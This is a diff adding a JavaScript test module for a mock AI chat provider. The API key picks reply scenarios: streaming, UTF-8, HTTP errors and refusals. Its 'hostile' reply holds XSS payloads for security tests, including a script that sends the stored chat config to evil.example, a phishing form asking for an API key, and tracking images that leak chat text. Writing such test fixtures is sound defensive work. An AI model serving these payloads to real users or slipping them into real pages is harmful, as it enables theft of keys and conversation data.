@@ -1,0 +1,107 @@
+// @ts-check
+/** Scenarios, chosen by the API key: the part before the first '.', e.g. `ok.test42` → `ok`. */
+
+import { markdownReply } from './markdown.mjs';
+
+/** @type {Readonly<Record<string, string>>} */
+export const scenarioHelp = {
+  ok: 'Echo: <last user message> (<n> messages received)',
+  slow: 'a long reply at 200 ms per token',
+  markdown: 'a ~1500-token markdown reply (headings, lists, table, code blocks)',
+  long: 'a ~6000-token markdown reply',
+  utf8: 'emoji, CJK and accented text; a multi-byte character split across two socket writes',
+  drop: 'streams a few tokens, then destroys the socket',
+  'error-event': "a few tokens, then a mid-stream error in the provider's own form",
+  blocked: 'Gemini: prompt blocked (SAFETY); Claude: refusal; others: finish_reason content_filter',
+  'blocked-late': 'Gemini: some text, then finishReason SAFETY; others as blocked',
+  'http-400': "400 with the provider's error JSON",
+  'http-401': '401',
+  'http-403': '403',
+  'http-404': '404 (unknown model or deployment)',
+  'http-429': "429 with retry-after and the provider's rate-limit wording",
+  'http-500': '500',
+  'http-503': '503',
+  'http-529': '529 (Anthropic overloaded)',
+  hostile: 'a reply carrying XSS payloads and a remote tracking image (security tests)',
+  'no-cors': 'a normal reply without any CORS header, so a browser refuses it',
+};
+
+export const scenarioNames = Object.keys(scenarioHelp);
+
+/**
+ * The scenario a key selects; undefined for any other key (treated as a bad key).
+ * @param {string} key
+ */
+export function scenarioOf(key) {
+  const name = key.split('.')[0] ?? '';
+  return scenarioNames.includes(name) ? name : undefined;
+}
+
+/** @param {string} scenario @returns {number | undefined} */
+export function httpStatusOf(scenario) {
+  const match = /^http-(\d{3})$/.exec(scenario);
+  return match ? Number(match[1]) : undefined;
+}
+
+export const utf8Reply =
+  'UTF-8 check: café, naïve, Ærøskøbing, Ελληνικά, Привет; 日本語のテキスト, 中文字符, 한국어; ' +
+  'emoji 😀 🎉 👩‍💻 🇯🇵; math ∑ ∫ √ ≠ ≤; done ✓';
+
+export const hostileReply = [
+  'Here is the content you asked for.',
+  '',
+  '<script>window.__xss = "script"; fetch("https://evil.example/steal?k=" + localStorage.getItem("ai-chat-config"))</script>',
+  '',
+  '<img src="x" onerror="window.__xss = \'img-onerror\'">',
+  '',
+  "[Click to continue](javascript:window.__xss='md-link')",
+  '',
+  '<a href="javascript:window.__xss=\'html-link\'">Open details</a>',
+  '',
+  '<iframe srcdoc="<script>parent.__xss=\'iframe\'</script>"></iframe>',
+  '',
+  '<svg onload="window.__xss=\'svg\'"><circle r="5"></circle></svg>',
+  '',
+  '<details open ontoggle="window.__xss=\'details\'"><summary>More</summary>hidden</details>',
+  '',
+  '<a href="data:text/html,<script>window.__xss=\'data-url\'</script>">Data link</a>',
+  '',
+  '<form action="https://evil.example/phish"><input name="key" placeholder="Paste your API key"></form>',
+  '',
+  '<style>body { display: none }</style>',
+  '',
+  '![status](https://evil.example/leak?x=chat-text-from-markdown)',
+  '',
+  '<img src="https://evil.example/leak?x=chat-text-from-html" alt="tracker">',
+  '',
+  'End of reply.',
+].join('\n');
+
+const slowReply =
+  'This is a slow reply, streamed one small piece at a time so that you can stop it midway. ' +
+  'It keeps going for a while: the quick brown fox jumps over the lazy dog, again and again, ' +
+  'while the user decides whether to press Stop. Every piece takes two hundred milliseconds. ' +
+  'If you are reading this sentence, the stream is still running and the partial reply should ' +
+  'be kept when it is stopped. The end.';
+
+/**
+ * The reply text of a scenario for a conversation.
+ * @param {string} scenario
+ * @param {{ lastUserText: string, messageCount: number }} conversation
+ */
+export function replyText(scenario, { lastUserText, messageCount }) {
+  switch (scenario) {
+    case 'slow':
+      return slowReply;
+    case 'markdown':
+      return markdownReply(1500);
+    case 'long':
+      return markdownReply(6000);
+    case 'utf8':
+      return utf8Reply;
+    case 'hostile':
+      return hostileReply;
+    default:
+      return `Echo: ${lastUserText} (${messageCount} ${messageCount === 1 ? 'message' : 'messages'} received)`;
+  }
+}
